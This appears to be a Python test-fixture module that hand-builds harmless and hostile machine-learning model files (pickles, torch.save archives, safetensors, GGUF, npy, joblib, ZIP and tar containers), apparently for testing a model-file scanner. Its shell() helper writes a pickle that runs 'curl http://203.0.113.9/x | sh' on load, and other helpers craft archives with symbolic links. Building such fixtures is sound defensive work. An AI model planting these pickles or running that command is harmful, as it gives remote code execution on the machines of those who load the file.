"""Builds model files, harmless and hostile, when tests and samples run. Nothing here is ever loaded or unpickled."""

from __future__ import annotations

import io
import json
import struct
import tarfile
import zipfile
import zlib

STOP = b"."


# -- pickles, opcode by opcode -------------------------------------------------------------------------------------------


def text(value: str) -> bytes:
    """SHORT_BINUNICODE or BINUNICODE."""
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def blob(value: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(value)) + value


def name(module: str, attribute: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{attribute}\n".encode()


def stack_name(module: str, attribute: str) -> bytes:
    """STACK_GLOBAL."""
    return text(module) + text(attribute) + b"\x93"


def value(item: object) -> bytes:
    """A constant, or bytes that are opcodes already."""
    if isinstance(item, bytes):
        return item
    if isinstance(item, str):
        return text(item)
    if item is None:
        return b"N"
    if isinstance(item, bool):
        return b"\x88" if item else b"\x89"
    if isinstance(item, int):
        return b"J" + struct.pack("<i", item)
    if isinstance(item, tuple):
        return b"(" + b"".join(value(i) for i in item) + b"t"
    if isinstance(item, dict):
        return b"}(" + b"".join(value(k) + value(v) for k, v in item.items()) + b"u"
    raise TypeError(item)


def call(function: bytes, *args: object) -> bytes:
    """REDUCE."""
    return function + b"(" + b"".join(value(arg) for arg in args) + b"tR"


def pickle(body: bytes, protocol: int = 4) -> bytes:
    """A whole stream."""
    return (b"\x80" + bytes([protocol]) if protocol >= 2 else b"") + body + STOP


def shell(module: str = "os", attribute: str = "system", command: str = "curl http://203.0.113.9/x | sh") -> bytes:
    """The classic: a command that runs on load."""
    return pickle(call(name(module, attribute), command))


def tensor(storage: str = "0") -> bytes:
    """What a tensor of a state dictionary looks like."""
    return call(
        name("torch._utils", "_rebuild_tensor_v2"),
        value(("storage", name("torch", "FloatStorage"), storage, "cpu", 4)) + b"Q",
        0,
        (4,),
        (1,),
        False,
        call(name("collections", "OrderedDict")),
    )


def state_dict() -> bytes:
    """A pickle as `torch.save(model.state_dict())` writes it."""
    return pickle(call(name("collections", "OrderedDict")) + b"(" + text("layer.weight") + tensor() + b"u", 2)


def legacy_torch(body: bytes) -> bytes:
    """The layout of `torch.save` before 1.6."""
    magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
    return (
        magic
        + b"\x80\x02M\xe9\x03."
        + pickle(value({"little_endian": True}), 2)
        + body
        + b"\x80\x02]."
        + b"\1\2\3\4" * 8
    )


# -- containers ----------------------------------------------------------------------------------------------------------


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    """A ZIP file with a fixed time stamp."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for member, data in members.items():
            archive.writestr(zipfile.ZipInfo(member, (2024, 1, 1, 0, 0, 0)), data, method)
    return out.getvalue()


def torch_zip(body: bytes | None = None, **more: bytes) -> bytes:
    """A file of `torch.save`."""
    members = {
        "archive/data.pkl": state_dict() if body is None else body,
        "archive/data/0": struct.pack("<4f", 1, 2, 3, 4),
        "archive/version": b"3\n",
    }
    return zipped({**members, **more})


def zip_link(member: str, target: str) -> bytes:
    """A ZIP file with a symbolic link."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo(member, (2024, 1, 1, 0, 0, 0))
        info.create_system = 3
        info.external_attr = 0o120777 << 16
        archive.writestr(info, target)
    return out.getvalue()


def tarred(members: dict[str, bytes], links: dict[str, str] | None = None) -> bytes:
    """A tar file."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for member, data in members.items():
            info = tarfile.TarInfo(member)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        for member, target in (links or {}).items():
            info = tarfile.TarInfo(member)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            archive.addfile(info)
    return out.getvalue()


# -- other formats -------------------------------------------------------------------------------------------------------


def safetensors(header: object = None, data: bytes = b"\0" * 16) -> bytes:
    """A safetensors file; `header` may be text that is no JSON."""
    if header is None:
        header = {"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}
    raw = header.encode() if isinstance(header, str) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


def gguf(pairs: dict[str, str], tensors: int = 0, version: int = 3) -> bytes:
    """A GGUF file with texts as values and no tensors."""

    def string(item: str) -> bytes:
        raw = item.encode()
        return struct.pack("<Q", len(raw)) + raw

    out = b"GGUF" + struct.pack("<IQQ", version, tensors, len(pairs))
    for key, item in pairs.items():
        out += string(key) + struct.pack("<I", 8) + string(item)
    return out


def npy(dtype: str = "<f4", shape: str = "(4,)", body: bytes = b"\0" * 16) -> bytes:
    """An array of NumPy."""
    header = f"{{'descr': '{dtype}', 'fortran_order': False, 'shape': {shape}, }}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + body


def joblib_array(tail: bytes = b"", items: int = 4) -> bytes:
    """A joblib file with a raw array in the stream; `tail` are opcodes behind the array."""
    dtype = call(name("numpy", "dtype"), "f8", False, True) + value((3, "<", None, None, None, -1, -1, 0)) + b"b"
    wrapper = name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
    state = (
        b"}("
        + text("subclass")
        + name("numpy", "ndarray")
        + text("shape")
        + value((items,))
        + text("order")
        + text("C")
    )
    state += text("dtype") + dtype + text("allow_mmap") + b"\x88" + b"u"
    return b"\x80\x04" + wrapper + state + b"b" + struct.pack("<d", 2.5) * items + tail + STOP


def compressed(data: bytes, level: int = 6) -> bytes:
    """A zlib stream, as joblib writes it."""
    return zlib.compress(data, level)
